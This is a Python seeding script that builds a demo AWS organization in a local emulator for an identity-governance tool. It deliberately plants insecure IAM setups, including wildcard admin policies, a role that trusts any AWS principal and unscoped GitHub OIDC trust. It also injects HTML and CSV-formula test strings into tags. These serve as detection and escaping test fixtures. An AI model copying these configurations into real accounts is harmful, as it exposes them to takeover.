        function = LAMBDA_FUNCTIONS[i % len(LAMBDA_FUNCTIONS)]
        plan.roles.append(
            p.role(
                "lambda_role",
                f"{app}{suffix}-{function}-lambda",
                "/service-role/",
                _trust_service("lambda.amazonaws.com"),
                APPS.get(app, "platform"),
                env,
                app,
                usage=p.role_usage(role_weights),
                managed=[LAMBDA_BASIC],
                inline=_scoped_inline(app, env) if i % 2 == 0 else {},
            )
        )
    for i in range(n["ecs"]):
        app, suffix = nth(i, 4)
        plan.roles.append(
            p.role(
                "ecs_task_role",
                f"{app}{suffix}-ecs-task",
                "/ecs/",
                _trust_service("ecs-tasks.amazonaws.com"),
                APPS.get(app, "platform"),
                env,
                app,
                usage=p.role_usage(role_weights),
                managed=["cust:app-secrets-read"] + ([DYNAMODB_FULL] if i % 6 == 1 else []),
            )
        )
    repos = [a for a in apps if APPS.get(a) in ("platform", "payments", "data")]
    for i in range(n["oidc"]):
        repo = repos[(i * 2) % len(repos)] + ("" if i * 2 < len(repos) else f"-{i}")
        plan.roles.append(
            p.role(
                "oidc_role",
                f"gha-{repo}-deploy-{env}",
                "/github-actions/",
                _trust_github(_acct(env), repo),
                APPS.get(repo, "platform"),
                env,
                repo,
                managed=["cust:deployer-lambda-deploy"] if i % 3 == 0 else [S3_FULL],
            )
        )
    for i in range(n["secrets"]):
        app, suffix = nth(i, 5)
        region = REGION if i % 3 else SECOND_REGION
        kind = ["db-password", "api-key", "signing-key", "oauth-client-secret"][i % 4]
        prefix = env if region == REGION else f"{env}-eu"
        plan.secrets.append(
            p.secret(f"{prefix}/{app}{suffix}/{kind}", region, APPS.get(app, "platform"), env, app)
        )
    plan.roles.append(
        p.role(
            "org_access_role",
            ORG_ACCESS_ROLE,
            "/",
            _trust_account(MANAGEMENT_ACCOUNT_ID),
            "platform",
            env,
            None,
            managed=[ADMIN],
            tags=[("env", env)],
            usage=(float(plan.age_days), None),
        )
    )


KEYS_WORKLOAD = {
    "healthy": 34,
    "daily_old": 14,
    "stale_year": 10,
    "unused_60": 10,
    "never_used": 8,
    "brand_new": 5,
    "inactive": 5,
    "two_active": 8,
    "rotating": 6,
}


def _plan_workload(p: _Planner, env: str, *, scale: float) -> AccountPlan:
    plan = AccountPlan(
        env,
        f"aws-{env}@example.com",
        ACCOUNT_AGE_DAYS[env],
        policies=p.policies(env),
        oidc_provider=True,
    )
    plan.groups = [GroupSpec("ci", ["cust:deployer-lambda-deploy"])]
    n = {
        k: max(1, round(v * scale))
        for k, v in {
            "ci": 8,
            "backup": 4,
            "service": 12,
            "app": 14,
            "ec2": 12,
            "lambda": 14,
            "ecs": 14,
            "oidc": 6,
            "secrets": 18,
        }.items()
    }
    apps = list(PRODUCT_APPS)
    p.rng.shuffle(apps)
    _workload_common(p, plan, env, apps, n, KEYS_WORKLOAD)
    if env == "prod":
        # The classic ones, whatever the dice said.
        plan.users += [
            p.user(
                "ci_user",
                "ci-deployer-legacy",
                "/ci/",
                "platform",
                env,
                "monolith",
                "stale_year",
                owner=OLIVIA,
                managed=[ADMIN],
                inline={
                    "legacy-deploy": _doc(
                        {"Effect": "Allow", "Action": "iam:PassRole", "Resource": "*"}
                    )
                },
            ),
            p.user(
                "ci_user",
                "jenkins-release-prod",
                "/ci/",
                "platform",
                env,
                "release",
                "two_active",
                owner=OLIVIA,
                groups=["ci"],
            ),
            p.user(
                "ci_user",
                "gitlab-runner-mobile",
                "/ci/",
                "platform",
                env,
                "mobile",
                "brand_new",
                owner=OLIVIA,
            ),
            p.user(
                "service_user",
                "svc-payments-reconciler",
                "/service/",
                "payments",
                env,
                "ledger",
                "daily_old",
                owner=TOM,
                managed=["cust:secrets-admin"],
            ),
        ]
        plan.roles += [
            p.role(
                "third_party_role",
                "datadog-integration",
                "/integrations/",
                _trust_account(DATADOG_ACCOUNT_ID, external_id=DATADOG_EXTERNAL_ID),
                "platform",
                env,
                "datadog",
                managed=[READ_ONLY],
                usage=(p.u(500, 600), p.u(0.01, 0.2)),
            ),
            p.role(
                "third_party_role",
                "legacy-vendor-audit",
                "/integrations/",
                _trust_account(LEGACY_VENDOR_ACCOUNT_ID),
                "security",
                env,
                "audit-2022",
                managed=[READ_ONLY],
                usage=(p.u(700, 800), p.u(380, 420)),
                description="Read-only access for the 2022 external audit (no ExternalId)",
            ),
            p.role(
                "cross_account_role",
                "deploy-from-staging",
                "/cross-account/",
                _trust_account(_acct("staging")),
                "platform",
                env,
                "release",
                managed=["cust:deployer-lambda-deploy"],
                owner=OLIVIA,
            ),
            p.role(
                "lambda_role",
                "secrets-rotation-lambda",
                "/service-role/",
                _trust_service("lambda.amazonaws.com"),
                "security",
                env,
                "secrets-rotation",
                managed=[LAMBDA_BASIC, "cust:secrets-admin"],
            ),
        ]
        plan.roles.append(
            RoleSpec(
                kind="service_linked_role",
                name="",
                path="",
                created_days=p.u(900, 1000),
                tags=[],
                trust=None,
                service="autoscaling.amazonaws.com",
                last_used_days=p.u(0.1, 1),
            )
        )
        plan.roles.append(
            RoleSpec(
                kind="service_linked_role",
                name="",
                path="",
                created_days=p.u(900, 1000),
                tags=[],
                trust=None,
                service="elasticbeanstalk.amazonaws.com",
                last_used_days=None,
            )
        )
        # Hostile strings for downstream escaping (HTML and CSV formula).
        hostile_role = next(r for r in plan.roles if r.kind == "app_role")
        hostile_role.tags.append(("description", HOSTILE_HTML))
        hostile_role.description = f"Checkout app {HOSTILE_HTML}"
        hostile_user = next(u for u in plan.users if u.kind == "service_user")
        hostile_user.tags.append(("cost-center", HOSTILE_FORMULA))
        plan.secrets += [
            p.secret(
                "prod/payments/stripe-api-key",
                REGION,
                "payments",
                env,
                "payments-api",
                profile="never_old",
                owner=TOM,
            ),
            p.secret(
                "prod/payments/db-password",
                REGION,
                "payments",
                env,
                "payments-api",
                profile="rotating",
            ),
            p.secret(
                "prod-eu/payments/db-password",
                SECOND_REGION,
                "payments",
                env,
                "payments-api",
                profile="rotation_stale",
            ),
        ]
    else:
        plan.users += [
            p.user(
                "ci_user",
                "jenkins-legacy-admin",
                "/ci/",
                "platform",
                env,
                "jenkins",
                "unused_60",
                owner=OLIVIA,
                console=True,
                managed=["cust:iam-policy-editor"],
            ),
        ]
        plan.roles += [
            p.role(
                "cross_account_role",
                "qa-from-data-platform",
                "/cross-account/",
                _trust_account(_acct("data-platform")),
                "data",
                env,
                "qa",
                managed=[READ_ONLY],
            ),
            p.role(
                "third_party_role",
                "acme-cost-insights",
                "/integrations/",
                _trust_account(VENDOR_ACCOUNT_ID, external_id="acme-7f3d2a91"),
                "platform",
                env,
                "cost-insights",
                managed=[READ_ONLY],
            ),
            # An administrator role quarantined after an incident: an inline Deny of everything
            # takes AdministratorAccess back (no PRIV-001). Fixed ages and tags: no dice drawn,
            # so the identities planned after it do not change.
            p.role(
                "app_role",
                "incident-quarantined-admin",
                "/",
                _trust_account(_acct(env)),
                "platform",
                env,
                "incident-response",
                managed=[ADMIN],
                inline={
                    "quarantine-deny-all": _doc({"Effect": "Deny", "Action": "*", "Resource": "*"})
                },
                usage=(400.0, 30.0),
                tags=[("owner", OLIVIA), ("team", "platform"), ("env", env)],
                description="Quarantined after incident INC-2291: denied everything",
            ),
        ]
    return plan


def _plan_data_platform(p: _Planner) -> AccountPlan:
    env = "data-platform"
    plan = AccountPlan(
        env,
        "aws-data-platform@example.com",
        ACCOUNT_AGE_DAYS[env],
        policies=p.policies("data"),
        oidc_provider=True,
    )
    plan.groups = [GroupSpec("ci", ["cust:deployer-lambda-deploy"])]
    apps = [*DATA_APPS, "search", "catalog"]
    n = {
        "ci": 4,
        "backup": 3,
        "service": 9,
        "app": 9,
        "ec2": 6,
        "lambda": 8,
        "ecs": 6,
        "oidc": 3,
        "secrets": 11,
    }
    _workload_common(p, plan, env, apps, n, KEYS_WORKLOAD)
    plan.users += [
        # machine user someone also logs into the console with (USR-001)
        p.user(
            "service_user",
            "svc-reporting-console",
            "/service/",
            "data",
            env,
            "reporting",
            "healthy",
            console=True,
            password_last_used_days=12.0,  # fixed: no dice drawn
            managed=[S3_READ],
        ),
        p.user(
            "service_user",
            "svc-etl-loader",
            "/service/",
            "data",
            env,
            "etl-pipeline",
            "two_active",
            managed=[S3_FULL],
            owner="j.doe@contractor.example",
        ),
    ]
    plan.roles += [
        p.role(
            "third_party_role",
            "snowflake-storage-integration",
            "/integrations/",
            _trust_account("791234567890", external_id="SNOWFLAKE_EXAMPLE_SFCRole=2_abc"),
            "data",
            env,
            "snowflake",
            managed=[S3_READ],
        ),
        p.role(
            "third_party_role",
            "fivetran-connector",
            "/integrations/",
            _trust_account("834469178297", external_id="fivetran-example-group"),
            "data",
            env,
            "fivetran",
            managed=[S3_READ],
            usage=(p.u(300, 400), p.u(0.1, 1)),
        ),
        p.role(
            "lambda_role",
            "feature-store-refresh-lambda",
            "/service-role/",
            _trust_service("lambda.amazonaws.com"),
            "platform",
            env,
            "feature-store",
            owner=OLIVIA,
            managed=[LAMBDA_BASIC, "cust:secrets-admin"],
            usage=(p.u(300, 320), None),
        ),
        p.role(
            "ecs_task_role",
            "airflow-scheduler-ecs-task",
            "/ecs/",
            _trust_service("ecs-tasks.amazonaws.com"),
            "platform",
            env,
            "airflow",
            owner=OLIVIA,
            managed=[S3_FULL, "cust:app-secrets-read"],
        ),
    ]
    plan.secrets += [
        p.secret(
            "data/snowflake/service-password", REGION, "data", env, "snowflake", profile="never_old"
        ),
        p.secret(
            "data/airflow/fernet-key",
            REGION,
            "platform",
            env,
            "airflow",
            owner=OLIVIA,
            profile="rotation_stale",
        ),
    ]
    return plan


def _plan_sandbox(p: _Planner) -> AccountPlan:
    env = "sandbox"
    plan = AccountPlan(
        env,
        "aws-sandbox@example.com",
        ACCOUNT_AGE_DAYS[env],
        policies=p.policies(env),
        oidc_provider=True,
    )
    plan.groups = [
        GroupSpec("developers", [POWER_USER]),
        GroupSpec("ci", ["cust:deployer-lambda-deploy"]),
    ]
    apps = [
        "search",
        "ml-training",
        "web-frontend",
        "catalog",
        "notifications",
        "analytics",
        "checkout",
        "feature-store",
    ]
    n = {
        "ci": 3,
        "backup": 1,
        "service": 5,
        "app": 8,
        "ec2": 5,
        "lambda": 6,
        "ecs": 2,
        "oidc": 1,
        "secrets": 3,
    }
    stale_roles = {"recent": 15, "week": 10, "stale": 40, "never_old": 30, "new": 5}
    stale_keys = {
        "stale_year": 30,
        "never_used": 25,
        "unused_60": 20,
        "healthy": 15,
        "inactive": 10,
    }
    _workload_common(p, plan, env, apps, n, stale_keys, stale_roles)
    # People experimenting in the sandbox; olivia's sandbox user also has a key (NHI10).
    plan.users += [
        p.person("olivia.park", "platform", email=OLIVIA, key_profile="stale_year"),
        p.person("kenji.tanaka", "platform"),
        p.person("chloe.dubois", "payments", mfa=False),
        p.person("mateo.garcia", "platform", pwd_days=p.u(200, 240)),
        p.user(
            "ci_user",
            "gitlab-runner-sandbox",
            "/ci/",
            "platform",
            env,
            None,
            "never_used",
            owner=OLIVIA,
            groups=["ci"],
        ),
        p.user(
            "service_user",
            "svc-legacy-export",
            "/service/",
            "platform",
            env,
            "export",
            "stale_year",
            owner="old-ops-team",
            managed=[ADMIN],
            inline={"export-everything": _doc({"Effect": "Allow", "Action": "*", "Resource": "*"})},
        ),
        p.user(
            "service_user",
            "test-user-do-not-use",
            "/",
            "platform",
            env,
            None,
            "never_used",
            tags=[("env", env)],
        ),
    ]
    plan.roles += [
        # Trusts anyone in AWS, no condition: the dangerous one (ROLE-002).
        p.role(
            "cross_account_role",
            "shared-readonly-anyone",
            "/cross-account/",
            _doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}),
            "platform",
            env,
            "demo-sharing",
            owner=OLIVIA,
            managed=[READ_ONLY],
            usage=(p.u(300, 330), p.u(5, 20)),
            description="Temporary sharing for a partner demo",
        ),
        # GitHub OIDC trust with only `aud`: any repository on GitHub can assume it (ROLE-005).
        p.role(
            "oidc_role",
            "gha-sandbox-experiments",
            "/github-actions/",
            _trust_github(_acct(env), None),
            "platform",
            env,
            "experiments",
            owner=OLIVIA,
            managed=[POWER_USER],
            usage=(p.u(100, 140), p.u(1, 4)),
        ),
        p.role(
            "oidc_role",
            "gha-ml-notebooks-feature",
            "/github-actions/",
            _trust_github(_acct(env), "ml-notebooks", "feature/*"),
            "data",
            env,
            "ml-training",
            managed=[S3_FULL],
        ),
        p.role(
            "third_party_role",
            "partner-poc-access",
            "/integrations/",
            _trust_account(VENDOR_ACCOUNT_ID, external_id="acme-poc-51c2"),
            "data",
            env,
            "poc",
            managed=[READ_ONLY],
            usage=(p.u(400, 450), None),
            tags=[("env", env), ("app", "poc")],
        ),
        p.role(
            "app_role",
            "admin-for-hackathon",
            "/",
            _trust_account(_acct(env)),
            "platform",
            env,
            "hackathon",
            managed=[ADMIN],
            usage=(p.u(300, 310), None),
            tags=[("env", env), ("created-by", OLIVIA)],
        ),
    ]
    return plan


# ---------------------------------------------------------------------------------------------
# Execution against the emulator.
# ---------------------------------------------------------------------------------------------


class _Clock:
    def __init__(self, frozen: Any, now: datetime) -> None:
        self._frozen = frozen
        self.now = now

    def at(self, days_ago: float) -> datetime:
        return self.now - timedelta(days=days_ago)

    def move(self, days_ago: float) -> datetime:
        moment = self.at(days_ago)
        self._frozen.move_to(moment)
        return moment


_GET_CALLER_IDENTITY = "Action=GetCallerIdentity&Version=2011-06-15"


@dataclass
class _Creds:
    access_key_id: str
    secret_access_key: str
    session_token: str | None = None


class _Runner:
    def __init__(self, endpoint: str, clock: _Clock) -> None:
        self.endpoint = endpoint
        self.clock = clock
        self.session: Any = boto3.session.Session()
        self.calls = 0
        self.session.events.register("before-send", self._count)
        self.config = Config(
            retries={"total_max_attempts": 1, "mode": "standard"},
            connect_timeout=10,
            read_timeout=120,
        )
        self.management = _Creds(FAKE_CREDENTIAL, FAKE_CREDENTIAL)
        self.account_ids: dict[str, str] = {"management": MANAGEMENT_ACCOUNT_ID}
        self._sts_mgmt = self.client("sts", self.management)

    def _count(self, **_kwargs: Any) -> None:
        self.calls += 1

    def client(self, service: str, creds: _Creds, region: str = REGION) -> Any:
        return self.session.client(
            service,
            endpoint_url=self.endpoint,
            region_name=region,
            config=self.config,
            aws_access_key_id=creds.access_key_id,
            aws_secret_access_key=creds.secret_access_key,
            aws_session_token=creds.session_token,
        )

    def assume(self, role_arn: str, session_name: str) -> _Creds:
        c = self._sts_mgmt.assume_role(RoleArn=role_arn, RoleSessionName=session_name)[
            "Credentials"
        ]
        return _Creds(c["AccessKeyId"], c["SecretAccessKey"], c["SessionToken"])

    def use(self, creds: _Creds) -> None:
        """`sts:GetCallerIdentity` signed (SigV4) with these credentials: marks the access key, or
        the assumed role, used at the frozen time.

        Signed and sent by hand rather than through a new boto3 client per key: a client costs
        ~10 ms to build, and the seed uses ~220 different credentials.
        """
        request = AWSRequest(
            method="POST",
            url=self.endpoint.rstrip("/") + "/",
            data=_GET_CALLER_IDENTITY,
            headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-8"},
        )
        SigV4Auth(
            Credentials(creds.access_key_id, creds.secret_access_key, creds.session_token),
            "sts",
            REGION,
        ).add_auth(request)
        prepared = request.prepare()
        http_request = urllib.request.Request(  # noqa: S310 - the emulator's http endpoint
            prepared.url,
            data=_GET_CALLER_IDENTITY.encode(),
            headers=dict(prepared.headers),
            method="POST",
        )
        self.calls += 1
        with NO_PROXY_OPENER.open(http_request, timeout=60) as response:
            body = response.read()
        if b"GetCallerIdentityResult" not in body:
            raise RuntimeError(f"GetCallerIdentity failed: {body[:300]!r}")

    def resolve(self, value: Any) -> Any:
        """Replace `{account:<name>}` placeholders by account ids inside a policy document."""
        text = json.dumps(value)
        for name, account_id in self.account_ids.items():
            text = text.replace("{account:" + name + "}", account_id)
        return json.loads(text)


def _policy_arn(account_id: str, plan: AccountPlan, ref: str) -> str:
    if not ref.startswith("cust:"):
        return ref
    name = ref.removeprefix("cust:")
    policy = next(pol for pol in plan.policies if pol.name == name)
    return f"arn:aws:iam::{account_id}:policy{policy.path}{name}"


def _tag_list(tags: list[tuple[str, str]]) -> list[dict[str, str]]:
    return [{"Key": key, "Value": value} for key, value in tags]


def _create_organization(runner: _Runner, plans: list[AccountPlan]) -> str:
    clock = runner.clock
    org = runner.client("organizations", runner.management)
    clock.move(ACCOUNT_AGE_DAYS["management"])
    try:
        organization = org.create_organization(FeatureSet="ALL")["Organization"]
    except ClientError as error:
        if error.response["Error"]["Code"] == "AlreadyInOrganizationException":
            raise RuntimeError(
                "the emulator already holds an organization: reset it first "
                "(inventory.demo.emulator.reset_emulator)"
            ) from error
        raise
    root_id = org.list_roots()["Roots"][0]["Id"]
    ou_ids = {
        name: org.create_organizational_unit(ParentId=root_id, Name=name)["OrganizationalUnit"][
            "Id"
        ]
        for name in OUS
    }
    for plan in plans[1:]:
        clock.move(plan.age_days)
        status = org.create_account(
            AccountName=plan.name, Email=plan.email, Tags=[{"Key": "env", "Value": plan.name}]
        )
        account_id = status["CreateAccountStatus"]["AccountId"]
        runner.account_ids[plan.name] = account_id
        ou = next(ou for ou, members in OUS.items() if plan.name in members)
        org.move_account(
            AccountId=account_id, SourceParentId=root_id, DestinationParentId=ou_ids[ou]
        )
    return str(organization["Id"])


def _seed_account(runner: _Runner, plan: AccountPlan, counts: dict[str, int]) -> None:
    clock = runner.clock
    account_id = runner.account_ids[plan.name]
    member = plan.name != "management"
    clock.move(plan.age_days - 1)
    if member:
        creds = runner.assume(f"arn:aws:iam::{account_id}:role/{ORG_ACCESS_ROLE}", "nhigov-seed")
    else:
        creds = runner.management
    iam = runner.client("iam", creds)

    # Customer managed policies, groups, the GitHub OIDC provider: early in the account's life.
    clock.move(plan.age_days - 5)
    for policy in plan.policies:
        iam.create_policy(
            PolicyName=policy.name,
            Path=policy.path,
            PolicyDocument=json.dumps(runner.resolve(policy.document)),
            Description=policy.description,
        )
    for group in plan.groups:
        iam.create_group(GroupName=group.name, Path="/")
        for ref in group.managed:
            iam.attach_group_policy(
                GroupName=group.name, PolicyArn=_policy_arn(account_id, plan, ref)
            )
    if plan.oidc_provider:
        iam.create_open_id_connect_provider(
            Url=f"https://{GITHUB_OIDC_HOST}",
            ClientIDList=["sts.amazonaws.com"],
            ThumbprintList=[GITHUB_THUMBPRINT],
        )

    for user in plan.users:
        _seed_user(runner, iam, account_id, plan, user)
        counts[user.kind] += 1
    for role in plan.roles:
        _seed_role(runner, iam, account_id, plan, role)
        counts[role.kind] += 1
    secrets_clients = {
        region: runner.client("secretsmanager", creds, region)
        for region in {s.region for s in plan.secrets}
    }
    for secret in plan.secrets:
        _seed_secret(clock, secrets_clients[secret.region], secret)
        counts["secret"] += 1
    if member:
        # Last: the organization admin used OrganizationAccountAccessRole an hour ago.
        clock.move(1 / 24)
        runner.use(creds)


def _seed_user(
    runner: _Runner, iam: Any, account_id: str, plan: AccountPlan, user: UserSpec
) -> None:
    clock = runner.clock
    clock.move(user.created_days)
    iam.create_user(UserName=user.name, Path=user.path, Tags=_tag_list(user.tags))
    if user.console:
        iam.create_login_profile(
            UserName=user.name, Password=DEMO_PASSWORD, PasswordResetRequired=False
        )
    if user.mfa:
        clock.move(max(user.created_days - 0.01, 0))
        serial = iam.create_virtual_mfa_device(VirtualMFADeviceName=user.name)["VirtualMFADevice"][
            "SerialNumber"
        ]
        iam.enable_mfa_device(
            UserName=user.name,
            SerialNumber=serial,
            AuthenticationCode1="123456",
            AuthenticationCode2="654321",
        )
    for group in user.groups:
        iam.add_user_to_group(GroupName=group, UserName=user.name)
    for ref in user.managed:
        iam.attach_user_policy(UserName=user.name, PolicyArn=_policy_arn(account_id, plan, ref))
    for name, document in user.inline.items():
        iam.put_user_policy(
            UserName=user.name, PolicyName=name, PolicyDocument=json.dumps(runner.resolve(document))
        )
    for key in user.keys:
        clock.move(key.created_days)
        created = iam.create_access_key(UserName=user.name)["AccessKey"]
        if key.last_used_days is not None:
            clock.move(key.last_used_days)
            runner.use(_Creds(created["AccessKeyId"], created["SecretAccessKey"]))
        if not key.active:
            clock.move(max((key.last_used_days or key.created_days) - 1, 0))
            iam.update_access_key(
                UserName=user.name, AccessKeyId=created["AccessKeyId"], Status="Inactive"
            )
    if user.console and user.password_last_used_days is not None:
        # AWS sets PasswordLastUsed on console sign-in, which the emulator cannot do. When the
        # emulator runs in this process, set it on moto's user object (credential report only).
        moto_user = in_process_iam_user(account_id, user.name)
        if moto_user is not None and getattr(moto_user, "arn", "").startswith(
            f"arn:aws:iam::{account_id}:"
        ):
            moto_user.password_last_used = clock.at(user.password_last_used_days)


def _seed_role(
    runner: _Runner, iam: Any, account_id: str, plan: AccountPlan, role: RoleSpec
) -> None:
    clock = runner.clock
    clock.move(role.created_days)
    if role.kind == "service_linked_role":
        name = iam.create_service_linked_role(AWSServiceName=role.service)["Role"]["RoleName"]
        role.name = name
    elif role.kind == "org_access_role":
        # moto's create_account already made this role (trusting the management account):
        # give it what AWS gives it.
        try:
            iam.create_role(
                RoleName=role.name,
                Path=role.path,
                AssumeRolePolicyDocument=json.dumps(runner.resolve(role.trust)),
                Tags=_tag_list(role.tags),
            )
        except ClientError as error:
            if error.response["Error"]["Code"] != "EntityAlreadyExists":
                raise
            iam.tag_role(RoleName=role.name, Tags=_tag_list(role.tags))
    else:
        iam.create_role(
            RoleName=role.name,
            Path=role.path,
            AssumeRolePolicyDocument=json.dumps(runner.resolve(role.trust)),
            Description=role.description,
            Tags=_tag_list(role.tags),
        )
    for ref in role.managed:
        iam.attach_role_policy(RoleName=role.name, PolicyArn=_policy_arn(account_id, plan, ref))
    for name, document in role.inline.items():
        iam.put_role_policy(
            RoleName=role.name, PolicyName=name, PolicyDocument=json.dumps(runner.resolve(document))
        )
    if role.instance_profile:
        iam.create_instance_profile(
            InstanceProfileName=role.name, Path=role.path, Tags=_tag_list(role.tags)
        )
        iam.add_role_to_instance_profile(InstanceProfileName=role.name, RoleName=role.name)
    if role.last_used_days is not None:
        clock.move(role.last_used_days)
        arn = f"arn:aws:iam::{account_id}:role{role.path or '/'}{role.name}"
        if role.kind == "service_linked_role":
            arn = f"arn:aws:iam::{account_id}:role/aws-service-role/{role.service}/{role.name}"
        runner.use(runner.assume(arn, "demo-session"))


def _seed_secret(clock: _Clock, client: Any, secret: SecretSpec) -> None:
    clock.move(secret.created_days)
    client.create_secret(
        Name=secret.name,
        SecretString=DEMO_SECRET_VALUE,
        Description=secret.description,
        Tags=_tag_list(secret.tags),
    )
    if secret.rotation_after_days is not None and secret.last_rotated_days is not None:
        # A rotation Lambda would need a real function that moto can invoke (Docker). Without
        # RotationLambdaARN moto still enables rotation, records LastRotatedDate and moves
        # AWSCURRENT to a new version (RotateImmediately=False keeps the dummy value in it).
        clock.move(secret.last_rotated_days)
        client.rotate_secret(
            SecretId=secret.name,
            RotateImmediately=False,
            RotationRules={"AutomaticallyAfterDays": secret.rotation_after_days},
        )


def _ownership_stats(plans: list[AccountPlan]) -> tuple[dict[str, int], int]:
    owners: Counter[str] = Counter()
    none = 0
    for plan in plans:
        for _kind, tags in plan.identity_tags():
            keys = {k for k, _ in tags}
            owners.update(v for k, v in tags if k == "owner")
            if not keys & {"owner", "team", "created-by"}:
                none += 1
    return dict(sorted(owners.items())), none


def seed_organization(
    endpoint_url: str, *, now: datetime | None = None, random_seed: int | None = DEFAULT_RANDOM_SEED
) -> SeedSummary:
    """Create the demo organization in the (freshly started or reset) emulator.

    `now`: the moment the demo pretends it is (default: the real now); all ages count back from it.
    `random_seed`: seeds moto's id generator first (None: leave it alone).
    """
    if now is None:
        now = datetime.now(UTC)
    elif now.tzinfo is None:
        now = now.replace(tzinfo=UTC)
    now = now.astimezone(UTC)
    started = time.perf_counter()
    if random_seed is not None:
        seed_emulator_random(endpoint_url, random_seed)
    plans = build_plan()
    counts: dict[str, dict[str, int]] = {}
    with freeze_time(now) as frozen:
        runner = _Runner(endpoint_url, _Clock(frozen, now))
        organization_id = _create_organization(runner, plans)
        for plan in plans:
            per_kind: dict[str, int] = defaultdict(int)
            _seed_account(runner, plan, per_kind)
            counts[runner.account_ids[plan.name]] = {
                k: per_kind[k] for k in IDENTITY_KINDS if per_kind[k]
            }
        api_calls = runner.calls
        account_names = {account_id: name for name, account_id in runner.account_ids.items()}
    seconds = round(time.perf_counter() - started, 2)
    owners, no_owner = _ownership_stats(plans)
    return SeedSummary(
        management_account_id=MANAGEMENT_ACCOUNT_ID,
        organization_id=organization_id,
        accounts=account_names,
        counts=counts,
        total_identities=sum(sum(c.values()) for c in counts.values()),
        seconds=seconds,
        api_calls=api_calls,
        owners=owners,
        no_owner_tags=no_owner,
        now=now.isoformat(),
    )


if __name__ == "__main__":  # pragma: no cover - manual check
    from inventory.demo.emulator import start_emulator

    server, endpoint = start_emulator()
    try:
        summary = seed_organization(endpoint)
        print(json.dumps({"endpoint": endpoint, **summary.to_dict()}, indent=2))
    finally:
        server.stop()
